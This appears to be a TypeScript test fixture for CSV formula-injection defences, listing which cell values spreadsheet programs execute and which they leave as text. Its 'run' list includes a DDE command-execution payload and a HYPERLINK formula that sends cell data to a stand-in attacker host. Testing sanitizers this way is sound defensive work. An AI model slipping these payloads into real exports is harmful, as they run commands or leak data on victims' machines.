/**
 * What the programs do with a cell of CSV. LibreOffice 7.4 and Gnumeric 1.12 were asked; what is said of Excel and Google Sheets is known from
 * their documentation and their users.
 */
export const run = [
  // All of them, also where one skips what stands before it.
  ...['=1+1', '=x', '=', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")', ' =1'],
  ...['\u00a0=1', '\u3000=1', '\ufeff=1', '\u200b=1', '\u200d=1', '\u2060=1', '\u180e=1', '\u00ad=1'],
  ...['\u2028=1', '\u0301=1', '\u3164=1', '\u{e0041}=1', '\ufe0f=1', '\ufeff \u200b\u2060=1', '\n=1', '\t=1'],
  // Excel: a sign before what is no number, a function after @.
  ...[
    '-2+3+cmd|x',
    '+1-2',
    '--5',
    '-(5)',
    '+(1)',
    '-1/2',
    '-A1',
    '-TRUE',
    '- item',
    '-item',
    '+item',
    '   +a',
  ],
  ...['@SUM(1,2)', '@SUM(1+1)*cmd|x', '@name is', '@a+b', '@a!b', '-05:30', '-5-', '-5 - 3', '-3 years'],
  ...['-\u200b5', '-5\n=1', '- a\n- b', '\u200c-x', '\u2060@x()'],
  // Arithmetic to Excel and Google Sheets.
  ...[
    '+49-30-1234567',
    '+1-555-123-4567',
    '+49/30/12',
    '+4930123456+1',
    '+4930123456 =1',
    '+(49)',
    '+1-(555)',
  ],
  // In Japanese versions.
  ...['＝1', '＋a', '－a', '＠x(1)', '\u3000＝1', '﹦1', '−a'],
];

/** Numbers, texts and errors to all of them. */
export const notRun = [
  ...['-', '--', '---', '+', '++', '+-', ' - ', '−', '－－'],
  ...[
    '+1',
    '-1',
    '-1.5',
    '-1,5',
    '-1,234.56',
    '-1.234,56',
    '-1 234',
    '-1\u202f234,5',
    "-1'234.5",
    '- 5',
    '-.5',
  ],
  ...[
    '-1e5',
    '-1.5E+10',
    '-5%',
    '-5 %',
    '-$5',
    '-€5',
    '-5 €',
    '-5,00€',
    '+12345',
    '−5',
    '＋1',
    '－１２',
    '+007',
  ],
  ...['2020-01-31', '31.01.2020', '01-02-2020', '1-2', '09:30', '(5)', '5-', '49,-'],
  ...['+493012345678', '+12345', '+1234567890123456', '+0123456789', '+49 30 1234567', '+49 (0)30 1234567'],
  ...['+49(0)30123', '+1 (555) 123-4567', '+1 555-123-4567', '+1.555.123.4567', '+49 30 1234567-12'],
  ...['+1 555 123 4567 ext. 89', '+1 (555) 123-4567 x89', ' +49 30 1 ', '030-1234567'],
  ...['@name', '@user-name', '@user.name_1', '@Ärger', '@a1', '@a@b.example', ' @name'],
  ...[
    'a\n- b\n=c\n+d\n@e()',
    'a\r\n=1',
    'x\r+1',
    "it's",
    "'",
    "'x",
    '|',
    '|calc',
    '| a | b |',
    '\ttext',
    '\rtext',
  ],
  ...['a = b', '* item', '– dash', '„-1"', '"=1"', '(=1)', '#=1', 'a,=1'],
];
